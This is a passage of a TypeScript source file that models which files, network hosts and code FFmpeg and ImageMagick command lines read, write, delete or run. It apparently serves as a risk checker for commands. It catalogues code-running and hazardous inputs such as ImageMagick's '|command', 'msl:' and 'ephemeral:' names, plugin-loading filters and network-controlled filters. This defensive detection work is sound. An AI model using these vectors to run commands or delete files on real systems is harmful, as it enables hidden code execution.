/**
 * Media and document tools: converters read their inputs and write their outputs; what makes them
 * interesting is the options and input names that run code or reach further: FFmpeg filters that
 * open files or load plugins and network inputs and outputs, ImageMagick's `|command`, `msl:` and
 * `ephemeral:` names, ExifTool's Perl expressions and argument files, Pandoc's filters, TeX's
 * shell escape, Ghostscript without its sandbox, players' scripts and control interfaces, site
 * generators' servers and deploys.
 *
 * Researched from the programs' own manuals: ffmpeg(1), ffmpeg-filters, ffmpeg-protocols,
 * ffmpeg-devices, ffprobe(1), ffplay(1); ImageMagick's command-line options and its option table
 * (MagickCore/option.c), GraphicsMagick's gm(1); exiftool's documentation, exiv2(1); Pandoc's User
 * Guide; web2c's tex(1), latexmk(1), bibtex(1), biber's manual, makeindex(1), dvips' manual,
 * dvipdfmx(1); Ghostscript's "Using Ghostscript", ps2pdf(1); poppler's pdftotext(1) and
 * siblings, qpdf's manual, mutool(1), pdftk(1), ocrmypdf's and tesseract(1)'s usage; sox(1),
 * lame(1), flac(1), metaflac(1), opusenc(1); mpv(1), vlc(1), mplayer(1); optipng(1),
 * jpegoptim(1), pngquant(1), oxipng's, cwebp(1), dwebp(1), avifenc's, gifsicle(1) and svgo's help;
 * inkscape(1), gimp(1), blender's command-line arguments, LibreOffice's command-line parameters,
 * unoconv(1); Graphviz's dot(1) and gvpr(1), PlantUML's command line, mermaid-cli's README;
 * asciidoctor(1), asciidoc(1), sphinx-build(1), MkDocs', Hugo's, Jekyll's, Zola's, Hexo's,
 * Eleventy's and Docusaurus' CLI references; xmllint(1), xsltproc(1), Saxon's command line,
 * tidy(1); qrencode(1), zbarimg(1), cowsay(6), figlet(6), toilet(1), lolcat's help.
 */
import type { Field } from '../expand.js';
import { definePrograms, type Call, type ModelContext, type OptionEntry } from '../model.js';

const f = (a: Field, text: string): Field => ({ ...a, text });

/** Whether a piece of a word is literal (no part of it is only known at run time). */
const literal = (text: string): boolean => !/\$\{|\$\(/.test(text);

/**
 * Programs that parse their own arguments (single-dash long options, options with several values,
 * `-sName=value`): a `--` first makes the generic option parser leave every argument to `custom`,
 * which reads them back with `own(call)`.
 */
const OWN = (args: Field[]): Field[] => [
  { text: '--', known: true, glob: false, many: false, network: false, decoded: false },
  ...args,
];
const own = (call: Call): Field[] => call.args.slice(1);

/** `scheme://…` */
const URL_SHAPE = /^[a-zA-Z][a-zA-Z0-9+.-]*:\/\//;

/** A value that is a URL (contacted) or a file (read); `-` is standard input. */
function fileOrUrl(ctx: ModelContext, v: Field): void {
  if (v.known && URL_SHAPE.test(v.text)) ctx.contact(v);
  else if (v.text !== '-') ctx.apply('read', v);
}

/** Loopback addresses a development server may listen on without serving other machines. */
const LOOPBACK = /^(?:127\.\d+\.\d+\.\d+|localhost|::1|\[::1\])$/;

/** The path of a file without its extension (`a/b.tex` → `a/b`). */
const stem = (text: string): string => text.replace(/\.[^./]*$/, '');
/** The folder part of a path (`a/b.tex` → `a`, `b.tex` → `.`). */
const dirname = (text: string): string =>
  text.includes('/') ? text.slice(0, text.lastIndexOf('/')) || '/' : '.';

/** `out%03d.png` → `out*.png`: the files an image-sequence pattern names. */
const sequence = (text: string): string => text.replace(/%0?\d*d/g, '*');

/**
 * Walk a program's own arguments. `arity(text)` says how many values an option takes (0: a flag;
 * -1: one optional value, taken when the next argument is not an option; undefined: the argument is
 * an operand). A value only known at run time where an option could stand is not understood.
 */
function walk(
  call: Call,
  args: Field[],
  arity: (text: string) => number | undefined,
  onOption: (name: string, values: Field[], field: Field) => void,
  onOperand: (field: Field) => void,
): void {
  const { ctx } = call;
  let done = false;
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    if (!a.known) {
      if (!done && (a.many || a.text.startsWith('-')))
        ctx.unknown(
          `\`${call.program}\` gets \`${a.text}\`, a value only known when the command runs, where it can be an option that runs or writes something`,
        );
      onOperand(a);
      continue;
    }
    if (done) {
      onOperand(a);
      continue;
    }
    const n = arity(a.text);
    if (n === undefined) {
      onOperand(a);
      continue;
    }
    if (a.text === '--' && n === 0) {
      done = true;
      continue;
    }
    if (n === -1) {
      const next = args[i + 1];
      if (next && next.known && !next.text.startsWith('-')) {
        onOption(a.text, [next], a);
        i++;
      } else onOption(a.text, [], a);
      continue;
    }
    const values = args.slice(i + 1, i + 1 + n);
    i += values.length;
    onOption(a.text, values, a);
  }
}

/** A development server: loopback is local work; any other address serves the site to the network. */
function serves(call: Call, bind: Field | undefined, what: string, loopbackByDefault = true): void {
  const { ctx } = call;
  ctx.network();
  // `host:port`, `[v6]:port`, a bare v6 address (`::1`) or `:port` (every interface).
  const text = bind?.text ?? '';
  const host =
    /^\[(.*)\](?::\d+)?$/.exec(text)?.[1] ?? (text.split(':').length === 2 ? text.split(':')[0] : text);
  const local =
    bind === undefined ? loopbackByDefault : bind.known && host !== undefined && LOOPBACK.test(host);
  if (!local) {
    ctx.sends();
    ctx.unknown(`\`${call.program}\` serves ${what} to every machine that can reach this one`);
  }
}

// ---------------------------------------------------------------------------------------------
// FFmpeg, ffprobe, ffplay.

/** Boolean options (also as `-noNAME`): every other FFmpeg option takes a value. */
const FF_BOOL = new Set(
  (
    'y n stdin hide_banner stats benchmark benchmark_all debug_ts dump hex re copyts start_at_zero shortest xerror ' +
    'ignore_unknown copy_unknown vn an sn dn accurate_seek seek_timestamp autorotate autoscale fix_sub_duration ' +
    'fix_sub_duration_heartbeat find_stream_info report vstats qphist psnr intra bitexact recast_media print_graphs ' +
    'deinterlace sameq same_quant L version buildconf formats muxers demuxers devices codecs decoders encoders bsfs ' +
    'protocols filters pix_fmts layouts sample_fmts dispositions colors hwaccels ' +
    // ffprobe
    'show_format show_streams show_packets show_frames show_data show_error show_programs show_chapters ' +
    'show_private_data show_program_version show_library_versions show_versions show_pixel_formats show_stream_groups ' +
    'count_frames count_packets pretty unit prefix byte_binary_prefix sexagesimal sections export_all ' +
    // ffplay
    'fs nodisp noborder alwaysontop fast genpts autoexit exitonkeydown exitonmousedown framedrop infbuf enable_vulkan'
  ).split(' '),
);
/** Options with an optional value (`-h`, `-h encoder=libx264`). */
const FF_OPTIONAL = new Set(['h', '?', 'help', '-help', 'sources', 'sinks']);

function ffArity(tool: string) {
  return (text: string): number | undefined => {
    if (!text.startsWith('-') || text === '-') return undefined;
    const name = text.slice(1).replace(/:.*$/s, '');
    if (tool === 'ffplay' && (name === 'x' || name === 'y')) return 1;
    if (FF_OPTIONAL.has(name)) return -1;
    if (FF_BOOL.has(name) || (name.startsWith('no') && FF_BOOL.has(name.slice(2)))) return 0;
    return 1;
  };
}

/** Input formats that capture the screen, a camera or a microphone. */
const SCREEN_GRAB = new Set([
  'x11grab',
  'xcbgrab',
  'gdigrab',
  'kmsgrab',
  'fbdev',
  'avfoundation',
  'dshow',
  'vfwcap',
]);
const CAMERA = new Set(['v4l2', 'video4linux2', 'video4linux', 'v4l', 'dv1394', 'iec61883', 'decklink']);
const MICROPHONE = new Set(['alsa', 'pulse', 'jack', 'oss', 'sndio', 'openal', 'audiotoolbox']);
/** Output formats that play instead of writing a file. */
const PLAYBACK = new Set([
  'null',
  'sdl',
  'sdl2',
  'xv',
  'opengl',
  'caca',
  'alsa',
  'pulse',
  'oss',
  'sndio',
  'audiotoolbox',
]);

/** A file or URL an FFmpeg-based program reads (`in`) or writes (`out`), by its protocol. */
function ffSource(ctx: ModelContext, v: Field, dir: 'in' | 'out'): void {
  if (!v.known) {
    ctx.apply(dir === 'in' ? 'read' : 'write', v);
    return;
  }
  const t = v.text;
  if (t === '-' || /^(pipe|fd|data):/.test(t)) return;
  const concat = /^(concat|tee):(.*)$/s.exec(t);
  if (concat) {
    for (const piece of concat[2]!.split('|')) ffSource(ctx, f(v, piece.replace(/^\[[^\]]*\]/, '')), dir);
    return;
  }
  const wrapped = /^(?:cache|async|crypto|concatf|gopher|subfile,.*?,|md5|ipfs_gateway)?:(.*)$/s.exec(t);
  if (wrapped && /^(cache|async|crypto|concatf|subfile,.*?,):/.test(t))
    return ffSource(ctx, f(v, wrapped[1]!), dir);
  const file = /^file:(.*)$/s.exec(t);
  if (file && !t.startsWith('file://')) {
    ctx.apply(dir === 'in' ? 'read' : 'write', f(v, file[1]!));
    return;
  }
  if (/^file:\/\//i.test(t)) {
    ctx.apply(dir === 'in' ? 'read' : 'write', f(v, decodeURIComponent(t.replace(/^file:\/\/[^/]*/i, ''))));
    return;
  }
  if (URL_SHAPE.test(t) || /^(rtmpe?|rtmps|rtmpt|rtsp|srt|udp|tcp|rtp|tls|http|https):/.test(t)) {
    ctx.contact(v);
    if (dir === 'out') ctx.sends();
    return;
  }
  if (dir === 'in') ctx.apply('read', f(v, sequence(t)));
  else ctx.apply('write', f(v, sequence(t)));
}

/** Split at top-level separators, outside quotes, brackets and backslash escapes. */
function splitTop(text: string, separators: string): string[] {
  const out: string[] = [];
  let current = '';
  let quote = false;
  let depth = 0;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (c === '\\' && i + 1 < text.length) {
      current += c + text[i + 1]!;
      i++;
      continue;
    }
    if (c === "'") quote = !quote;
    else if (!quote && c === '[') depth++;
    else if (!quote && c === ']') depth = Math.max(0, depth - 1);
    else if (!quote && depth === 0 && separators.includes(c)) {
      out.push(current);
      current = '';
      continue;
    }
    current += c;
  }
  out.push(current);
  return out;
}

const unquote = (text: string): string => text.replace(/\\(.)/g, '$1').replace(/'/g, '').trim();

/** Filters that open files or load code, by name: which argument, and what is done with it. */
const FILTER_FILES: Record<
  string,
  Array<{ keys: string[]; position?: number; role: 'read' | 'write' | 'read-tree' | 'input' }>
> = {
  movie: [{ keys: ['filename'], position: 0, role: 'input' }],
  amovie: [{ keys: ['filename'], position: 0, role: 'input' }],
  subtitles: [
    { keys: ['filename', 'f'], position: 0, role: 'read' },
    { keys: ['fontsdir'], role: 'read-tree' },
  ],
  ass: [
    { keys: ['filename', 'f'], position: 0, role: 'read' },
    { keys: ['fontsdir'], role: 'read-tree' },
  ],
  drawtext: [
    { keys: ['fontfile'], role: 'read' },
    { keys: ['textfile'], role: 'read' },
  ],
  lut3d: [{ keys: ['file'], position: 0, role: 'read' }],
  lut1d: [{ keys: ['file'], position: 0, role: 'read' }],
  sendcmd: [{ keys: ['filename', 'f'], role: 'read' }],
  asendcmd: [{ keys: ['filename', 'f'], role: 'read' }],
  vidstabtransform: [{ keys: ['input'], role: 'read' }],
  vidstabdetect: [{ keys: ['result'], role: 'write' }],
  psnr: [{ keys: ['stats_file', 'f'], role: 'write' }],
  ssim: [{ keys: ['stats_file', 'f'], role: 'write' }],
  libvmaf: [
    { keys: ['log_path'], role: 'write' },
    { keys: ['model_path'], role: 'read' },
  ],
  signature: [{ keys: ['filename'], role: 'write' }],
  metadata: [{ keys: ['file'], role: 'write' }],
  ametadata: [{ keys: ['file'], role: 'write' }],
  arnndn: [{ keys: ['model', 'm'], position: 0, role: 'read' }],
  dnn_processing: [{ keys: ['model'], role: 'read' }],
  dnn_detect: [{ keys: ['model'], role: 'read' }],
  dnn_classify: [{ keys: ['model'], role: 'read' }],
  sr: [{ keys: ['model'], role: 'read' }],
  derain: [{ keys: ['model'], role: 'read' }],
  sofalizer: [{ keys: ['sofa'], position: 0, role: 'read' }],
  ocr: [{ keys: ['datapath'], role: 'read-tree' }],
  libplacebo: [{ keys: ['custom_shader_path'], role: 'read' }],
};
const FILTER_PLUGINS: Record<string, string> = {
  frei0r: 'loads a frei0r plugin (native code)',
  frei0r_src: 'loads a frei0r plugin (native code)',
  ladspa: 'loads a LADSPA plugin (native code)',
  lv2: 'loads an LV2 plugin (native code)',
  zmq: 'takes filter commands from the network',
  azmq: 'takes filter commands from the network',
  ddagrab: 'records the screen',
};

/** A filter graph (`-vf`, `-filter_complex`, `-f lavfi -i`): filters that open files or load code. */
function filtergraph(call: Call, v: Field): void {
  const { ctx } = call;
  for (const chain of splitTop(v.text, ';,')) {
    const filter = chain
      .trim()
      .replace(/^(\[[^\]]*\]\s*)+/, '')
      .replace(/(\s*\[[^\]]*\])+$/, '');
    const eq = filter.indexOf('=');
    const name = (eq < 0 ? filter : filter.slice(0, eq)).replace(/@.*$/, '').trim();
    if (name === '') continue;
    if (!literal(name)) {
      ctx.unknown(
        `\`${call.program}\` gets a filter graph only known when the command runs, whose filters can read and write files`,
      );
      continue;
    }
    if (FILTER_PLUGINS[name]) {
      ctx.unknown(`\`${call.program}\`'s \`${name}\` filter ${FILTER_PLUGINS[name]}`);
      if (name === 'zmq' || name === 'azmq') ctx.network();
    }
    const specs = FILTER_FILES[name];
    if (!specs) continue;
    const args = eq < 0 ? [] : splitTop(filter.slice(eq + 1), ':');
    const named = new Map<string, string>();
    const positional: string[] = [];
    for (const arg of args) {
      const kv = /^\s*([A-Za-z_][\w-]*)=(.*)$/s.exec(arg);
      if (kv) named.set(kv[1]!, unquote(kv[2]!));
      else positional.push(unquote(arg));
    }
    for (const spec of specs) {
      const key = spec.keys.find((k) => named.has(k));
      const value =
        key !== undefined
          ? named.get(key)
          : spec.position !== undefined
            ? positional[spec.position]
            : undefined;
      if (value === undefined || value === '') {
        if (name === 'vidstabdetect' || name === 'vidstabtransform')
          ctx.apply(spec.role === 'write' ? 'write' : 'read', f(v, 'transforms.trf'));
        continue;
      }
      if (!literal(value)) {
        ctx.unknown(
          `\`${call.program}\`'s \`${name}\` filter opens \`${value}\`, a file only known when the command runs`,
        );
        continue;
      }
      const field = { ...v, text: value, known: true };
      if (spec.role === 'input') ffSource(ctx, field, 'in');
      else ctx.apply(spec.role, field);
    }
  }
}

/** Encoder parameters (`-x264-params stats=f.log:qpfile=q.txt`) that name files. */
function encoderParams(ctx: ModelContext, v: Field): void {
  for (const pair of v.text.split(':')) {
    const m = /^([\w-]+)=(.+)$/.exec(pair);
    if (!m) continue;
    if (/^(stats|csv|dump-yuv|analysis-save|recon|passlogfile|stat|output)$/.test(m[1]!))
      ctx.apply('write', f(v, m[2]!));
    else if (/^(qpfile|cqmfile|zonefile|analysis-load|fgs-table|lambda-file|scaling-list)$/.test(m[1]!))
      ctx.apply('read', f(v, m[2]!));
  }
}

/** FFmpeg-based programs: options apply to the next input (`-i`) or output (an operand). */
function ffmpegLike(call: Call): void {
  const { ctx } = call;
  const tool =
    call.program === 'ffprobe' || call.program === 'avprobe'
      ? 'ffprobe'
      : call.program === 'ffplay'
        ? 'ffplay'
        : 'ffmpeg';
  let pending = new Map<string, string>();
  const input = (v: Field) => {
    const format = pending.get('f');
    if (format === 'lavfi') filtergraph(call, v);
    else if (format && SCREEN_GRAB.has(format))
      ctx.unknown(`\`${call.program}\` records the screen (\`-f ${format}\`)`);
    else if (format && CAMERA.has(format))
      ctx.apply('read', v.text.startsWith('/') ? v : f(v, '/dev/video*'));
    else if (format && MICROPHONE.has(format))
      ctx.apply('read', v.text.startsWith('/') ? v : f(v, '/dev/snd/*'));
    else if (format === 'vapoursynth') {
      ctx.runsFile(v, 'code:python');
      ctx.unknown(`\`${call.program}\` runs a VapourSynth script, which is Python`);
    } else if (format === 'avisynth') {
      ctx.apply('read', v);
      ctx.unknown(`\`${call.program}\` runs an AviSynth script, which can load plugins`);
    } else {
      ffSource(ctx, v, 'in');
      if (format === 'concat' && pending.get('safe') === '0')
        ctx.unknown(
          `\`${call.program}\` reads the files a concat list names, wherever they are (\`-safe 0\`)`,
        );
    }
    if (pending.has('listen') && pending.get('listen') !== '0') ctx.network();
    pending = new Map();
  };
  const output = (v: Field) => {
    const format = pending.get('f');
    if (format && PLAYBACK.has(format) && !v.text.startsWith('/')) {
      pending = new Map();
      return;
    }
    if (format === 'tee' && v.known) {
      for (const piece of v.text.split('|')) ffSource(ctx, f(v, piece.replace(/^\[[^\]]*\]/, '')), 'out');
    } else ffSource(ctx, v, 'out');
    if (pending.has('listen') && pending.get('listen') !== '0') {
      const host = /^[a-z]+:\/\/(\[[^\]]*\]|[^:/]*)/i.exec(v.text)?.[1];
      serves(call, host === undefined ? undefined : f(v, host), 'its output', false);
    }
    pending = new Map();
  };
  walk(
    call,
    own(call),
    ffArity(tool),
    (name, [v]) => {
      const base = name.slice(1).replace(/:.*$/s, '');
      if (base === 'report') ctx.write(ctx.path(`${tool}-*.log`));
      if (base === 'vstats') ctx.write(ctx.path('vstats_*.log'));
      if (!v) return;
      // `-/vf FILE`: the option's value is read from a file.
      if (base.startsWith('/')) {
        ctx.apply('read', v);
        return;
      }
      if (!v.known) pending.set(base, '?');
      else pending.set(base, v.text);
      switch (base) {
        case 'i':
          input(v);
          return;
        case 'vf':
        case 'af':
        case 'filter':
        case 'filter_complex':
        case 'lavfi':
          filtergraph(call, v);
          return;
        case 'filter_script':
        case 'filter_complex_script':
        case 'attach':
        case 'hls_key_info_file':
        case 'ca_file':
        case 'cafile':
        case 'cert_file':
        case 'key_file':
          ctx.apply('read', v);
          return;
        case 'dump_attachment':
          if (v.text === '') ctx.write(`${ctx.path('.')}/*`);
          else ctx.apply('write', v);
          return;
        case 'vstats_file':
        case 'sdp_file':
        case 'print_graphs_file':
        case 'stats_enc_pre':
        case 'stats_enc_post':
        case 'stats_mux_pre':
        case 'segment_list':
        case 'o':
        case 'output_file':
          ctx.apply('write', v);
          return;
        case 'hls_segment_filename':
          ctx.apply('write', f(v, sequence(v.text)));
          return;
        case 'passlogfile':
          ctx.apply('write', f(v, `${v.text}*`));
          return;
        case 'pass':
          if (!pending.has('passlogfile')) ctx.write(ctx.path('ffmpeg2pass-*'));
          return;
        case 'progress':
          if (URL_SHAPE.test(v.text)) {
            ctx.contact(v);
            ctx.sends();
          } else ctx.apply('write', v);
          return;
        case 'x264-params':
        case 'x265-params':
        case 'x264opts':
        case 'svtav1-params':
        case 'aom-params':
          encoderParams(ctx, v);
          return;
      }
    },
    (v) => (tool === 'ffmpeg' ? output(v) : input(v)),
  );
}

// ---------------------------------------------------------------------------------------------
// ImageMagick and GraphicsMagick.

/** ImageMagick's option table (MagickCore/option.c): options that take one or two values. */
const IM_ONE = new Set(
  (
    'alpha background format repage size virtual-pixel blur reshape resize adaptive-blur adaptive-resize adaptive-sharpen ' +
    'affine affinity mattecolor attenuate authenticate auto-threshold backdrop bench bias bilateral-blur black-threshold ' +
    'blend blue-primary blue-shift border bordercolor borderwidth box brightness-contrast cache canny caption cdl channel ' +
    'channel-fx charcoal chop clahe clip-mask clip-path clone colorize colormap color-matrix colors colorspace ' +
    'color-threshold comment complex compose compress connected-components contrast-stretch convolve crop cycle debug ' +
    'decipher define delay delete density depth descend deskew direction displace display dispose ' +
    'dissimilarity-threshold dissolve dither draw duplicate duration edge emboss encipher encoding endian ' +
    'evaluate-sequence extent extract family features fill filter font foreground frame fuzz fx gamma gaussian ' +
    'gaussian-blur geometry gravity grayscale green-primary highlight-color hough-lines iconGeometry implode insert ' +
    'illuminant intensity intent interlace interline-spacing interpolate interpolative-resize interword-spacing kerning ' +
    'kmeans kuwahara label lat layers level level-colors linear-stretch liquid-rescale list local-contrast log loop ' +
    'lowlight-color map mask mean-shift median metric mode modulate morph motion-blur name noise opaque ordered-dither ' +
    'orient page paint path pause pointsize polaroid poly posterize precision preview print process profile quality ' +
    'quantize raise random-threshold range-threshold read read-mask recolor red-primary region remap remote resample ' +
    'roll rotate rotational-blur sample sampling-factor sans1 sans scale scene scenes screen script seed segment ' +
    'selective-blur sepia-tone shade shadow shared-memory sharpen shave shear sigmoidal-contrast silent ' +
    'similarity-threshold sketch smush snaps solarize splice spread stegano stereo stretch stroke strokewidth style swap ' +
    'swirl text-font texture threshold thumbnail tile tile-offset tint title transparent transparent-color treedepth type ' +
    'undercolor units unsharp update use-pixmap view vignette visual watermark wave wavelet-denoise weight white-point ' +
    'white-threshold window window-group word-break write write-mask resource'
  ).split(' '),
);
const IM_PLUS_ONE = new Set(
  (
    'alpha reshape resize adaptive-blur adaptive-resize adaptive-sharpen auto-threshold bench bilateral-blur blue-shift ' +
    'border canny cdl charcoal chop clahe clip-path colorize color-matrix colors combine complex connected-components ' +
    'contrast-stretch convolve crop cycle decipher define display duration edge emboss encipher evaluate-sequence extent ' +
    'frame fx gamma gaussian gaussian-blur grayscale hough-lines illuminant interpolative-resize lat layers level ' +
    'level-colors linear-stretch liquid-rescale mean-shift median mode modulate morph motion-blur noise opaque poly ' +
    'posterize print process profile raise random-threshold range-threshold recolor resample roll rotate sample sans1 ' +
    'sans scale segment selective-blur sepia-tone set shadow sharpen shave shear sigmoidal-contrast sketch smush solarize ' +
    'sparse-color splice spread stretch strokewidth swirl thumbnail tint transparent treedepth unsharp vignette wave ' +
    'weight white-threshold write'
  ).split(' '),
);
const IM_TWO = new Set([
  'annotate',
  'copy',
  'distort',
  'evaluate',
  'floodfill',
  'function',
  'limit',
  'morphology',
  'set',
  'sparse-color',
  'statistic',
  'sans2',
]);
const IM_PLUS_TWO = new Set([
  'copy',
  'distort',
  'evaluate',
  'floodfill',
  'function',
  'morphology',
  'statistic',
  'sans2',
]);

/** Options whose arity differs in one tool. */
const IM_TOOL_ARITY: Record<string, Record<string, number>> = {
  montage: { '-shadow': 0 },
  composite: { '-tile': 0 },
  import: { '-screen': 0, '-silent': 0, '-descend': 0, '-frame': 0 },
  display: { '-backdrop': 0 },
  animate: { '-backdrop': 0 },
  gm: { '-operator': 3, '+operator': 3 },
};

function imArity(tool: string) {
  return (text: string): number | undefined => {
    if (text === '--') return 0;
    if (!/^[-+][a-zA-Z]/.test(text)) return undefined;
    const special = IM_TOOL_ARITY[tool]?.[text] ?? IM_TOOL_ARITY.gm?.[text];
    if (special !== undefined) return special;
    const name = text.slice(1);
    if (text.startsWith('-')) return IM_TWO.has(name) ? 2 : IM_ONE.has(name) ? 1 : 0;
    return IM_PLUS_TWO.has(name) ? 2 : IM_PLUS_ONE.has(name) ? 1 : 0;
  };
}

/** Image "formats" that make pictures from their argument rather than read a file. */
const IM_BUILTIN = new Set(
  'xc canvas gradient radial-gradient plasma pattern rose logo wizard granite netscape hald fractal null magick inline clipboard label caption pango print mpr mpri'.split(
    ' ',
  ),
);

/** An image ImageMagick or GraphicsMagick reads, by its name: `|cmd`, `@list`, `fmt:path` … */
function imInput(call: Call, v: Field): void {
  const { ctx } = call;
  if (!v.known) {
    ctx.apply('read', v);
    return;
  }
  const text = v.text;
  if (['', '-', '(', ')', '{', '}'].includes(text)) return;
  if (text.startsWith('|')) {
    ctx.runScript(text.slice(1), `${call.program} (|command)`);
    return;
  }
  if (text.startsWith('@')) {
    ctx.apply('read', f(v, text.slice(1)));
    return;
  }
  const name = text.replace(/\[[^\]]*\]$/, '');
  if (URL_SHAPE.test(name)) {
    ctx.contact(f(v, name));
    return;
  }
  if (/^x:/i.test(name)) {
    ctx.unknown(`\`${call.program}\` records the screen (\`${text}\`)`);
    return;
  }
  const m = /^([A-Za-z0-9][A-Za-z0-9_+-]+):(.*)$/s.exec(name);
  if (!m) {
    ctx.apply('read', f(v, name));
    return;
  }
  const format = m[1]!.toLowerCase();
  const rest = m[2]!;
  switch (format) {
    case 'msl':
      ctx.apply('read', f(v, rest));
      ctx.unknown(
        `\`${call.program}\` runs \`${text}\`, a Magick Scripting Language script that can read and write files`,
      );
      return;
    case 'ephemeral':
      ctx.apply('read', f(v, rest));
      ctx.apply('delete', f(v, rest));
      return;
    case 'text':
    case 'txt':
      ctx.apply('read', f(v, rest.replace(/^@/, '')));
      return;
    case 'label':
    case 'caption':
    case 'pango':
      if (rest.startsWith('@')) ctx.apply('read', f(v, rest.slice(1)));
      return;
    case 'x':
    case 'screenshot':
      ctx.unknown(`\`${call.program}\` records the screen (\`${text}\`)`);
      return;
    case 'fd':
      return;
    case 'url':
      ctx.contact(f(v, rest));
      return;
  }
  if (IM_BUILTIN.has(format)) return;
  if (rest === '-' || rest === '') return;
  ctx.apply('read', f(v, rest));
}

/** An image ImageMagick writes: `|cmd` pipes it to a command; `show:`, `info:`, `null:` write no file. */
function imOutput(call: Call, v: Field): void {
  const { ctx } = call;
  if (!v.known) {
    ctx.apply('write', v);
    return;
  }
  const text = v.text;
  if (text === '' || text === '-') return;
  if (text.startsWith('|')) {
    ctx.runScript(text.slice(1), `${call.program} (|command)`);
    return;
  }
  if (URL_SHAPE.test(text)) {
    ctx.contact(v);
    ctx.sends();
    return;
  }
  if (text.includes('%[')) {
    ctx.unknown(`\`${call.program}\` writes to a file named from image properties (\`${text}\`)`);
    return;
  }
  const m = /^([A-Za-z0-9][A-Za-z0-9_+-]+):(.*)$/s.exec(text);
  const rest = m ? m[2]! : text;
  if (
    /^x:/i.test(text) ||
    (m &&
      ['null', 'show', 'win', 'fd', 'print', 'clipboard', 'mpr', 'mpri', 'info'].includes(
        m[1]!.toLowerCase(),
      ) &&
      (m[1]!.toLowerCase() !== 'info' || m[2] === ''))
  )
    return;
  if (rest === '' || rest === '-') return;
  ctx.apply('write', f(v, sequence(rest)));
}

/** The images an MVG `-draw` command names (`image over 0,0 0,0 'file'`). */
function drawImages(call: Call, v: Field): void {
  for (const m of v.text.matchAll(/\bimage\s+\w+\s+\S+\s+\S+\s+(['"])(.*?)\1/g)) imInput(call, f(v, m[2]!));
}

/** One ImageMagick command (`convert`, `magick`, `mogrify` …) over its own arguments. */
function imCommand(call: Call, tool: string, args: Field[]): void {
  const { ctx } = call;
  if (tool === 'magick' || tool === 'gm') {
    const first = args[0];
    const subtool = first?.known ? first.text : undefined;
    if (subtool && IM_TOOLS.has(subtool)) return imCommand(call, subtool, args.slice(1));
    if (tool === 'gm') {
      if (subtool === 'batch') {
        for (const a of args.slice(1))
          if (!a.text.startsWith('-') && a.text !== 'on' && a.text !== 'off') ctx.apply('read', a);
        ctx.unknown('`gm batch` runs GraphicsMagick commands read from a file or the terminal');
        return;
      }
      if (subtool === 'benchmark' || subtool === 'time') {
        const i = args.findIndex((a, j) => j > 0 && a.known && IM_TOOLS.has(a.text));
        if (i > 0) imCommand(call, args[i]!.text, args.slice(i + 1));
        return;
      }
      if (subtool === 'version' || subtool === 'help') return;
    }
  }
  const operands: Field[] = [];
  const fileValue = (v: Field | undefined) => {
    if (v?.known && v.text.startsWith('@')) ctx.apply('read', f(v, v.text.slice(1)));
  };
  walk(
    call,
    args,
    imArity(tool),
    (name, values) => {
      const [a, b] = values;
      const option = name.slice(1);
      const plus = name.startsWith('+');
      if (name === '--') return;
      switch (option) {
        case 'read':
        case 'texture':
        case 'remap':
        case 'map':
        case 'mask':
        case 'read-mask':
        case 'write-mask':
        case 'clip-mask':
        case 'cdl':
          if (a) imInput(call, a);
          return;
        case 'tile':
          if (a && tool !== 'montage') imInput(call, a);
          return;
        case 'profile':
          if (a && !plus) imInput(call, a);
          return;
        case 'write':
          if (a) imOutput(call, a);
          return;
        case 'path':
          if (a) ctx.apply('write-into', a);
          return;
        case 'script':
          if (a) ctx.apply('read', a);
          ctx.unknown(`\`${call.program}\` runs a script of ImageMagick commands from a file (\`-script\`)`);
          return;
        case 'font':
        case 'text-font':
          if (a?.known && (a.text.includes('/') || /\.(ttf|otf|ttc|pfa|pfb|woff2?)$/i.test(a.text)))
            ctx.apply('read', a);
          return;
        case 'draw':
          if (a) {
            fileValue(a);
            drawImages(call, a);
          }
          return;
        case 'fx':
        case 'caption':
        case 'label':
        case 'comment':
        case 'title':
        case 'print':
        case 'format':
          fileValue(a);
          return;
        case 'annotate':
        case 'set':
          fileValue(b);
          return;
      }
    },
    (v) => operands.push(v),
  );
  const hasOutput =
    ['convert', 'magick', 'composite', 'montage', 'compare', 'stream'].includes(tool) && operands.length > 1;
  const inputs = hasOutput ? operands.slice(0, -1) : operands;
  if (tool === 'import') {
    ctx.unknown(`\`${call.program}\` records the screen`);
    for (const o of operands) imOutput(call, o);
    return;
  }
  if (tool === 'conjure') {
    for (const o of operands) ctx.apply('read', o);
    ctx.unknown(`\`${call.program}\` runs Magick Scripting Language scripts, which can read and write files`);
    return;
  }
  for (const i of inputs) imInput(call, i);
  if (hasOutput) imOutput(call, operands.at(-1)!);
  if (tool === 'mogrify') {
    const dir = mogrifyOption(args, '-path');
    const format = mogrifyOption(args, '-format');
    if (dir) return;
    for (const i of inputs) {
      if (!i.known) ctx.apply('write', i);
      else if (format?.known)
        ctx.apply('write', f(i, `${stem(i.text.replace(/\[[^\]]*\]$/, ''))}.${format.text}`));
      else if (!/^[A-Za-z0-9][\w+-]+:/.test(i.text) && !i.text.startsWith('|') && !i.text.startsWith('@'))
        ctx.apply('write', f(i, i.text.replace(/\[[^\]]*\]$/, '')));
    }
  }
}

function mogrifyOption(args: Field[], name: string): Field | undefined {
  const i = args.findIndex((a) => a.known && a.text === name);
  return i >= 0 ? args[i + 1] : undefined;
}

const IM_TOOLS = new Set([
  'animate',
  'compare',
  'composite',
  'conjure',
  'convert',
  'display',
  'identify',
  'import',
  'mogrify',
  'montage',
  'stream',
  'magick',
]);

const AUDIO_VIDEO_IMAGES = definePrograms([
  {
    names: ['ffmpeg', 'avconv'],
    summary: 'convert, filter and stream audio and video',
    operands: ['value...'],
    rewrite: OWN,
    custom: ffmpegLike,
    examples: [
      { cmd: 'ffmpeg -i in.mp4 out.webm', reads: ['in.mp4'], writes: ['out.webm'], only: true },
      {
        cmd: 'ffmpeg -y -ss 5 -t 10 -i in.mp4 -c:v libx264 -crf 23 -preset slow -c:a aac -b:a 128k -map 0 -vf scale=640:-1 out.mp4',
        reads: ['in.mp4'],
        writes: ['out.mp4'],
        only: true,
      },
      {
        cmd: 'ffmpeg -i in.mp4 -vn -af loudnorm audio.m4a -an -f image2 frames/%03d.png',
        reads: ['in.mp4'],
        writes: ['audio.m4a', 'frames/*.png'],
        only: true,
      },
      {
        cmd: 'ffmpeg -i "concat:a.ts|b.ts" -c copy all.ts',
        reads: ['a.ts', 'b.ts'],
        writes: ['all.ts'],
        only: true,
      },
      {
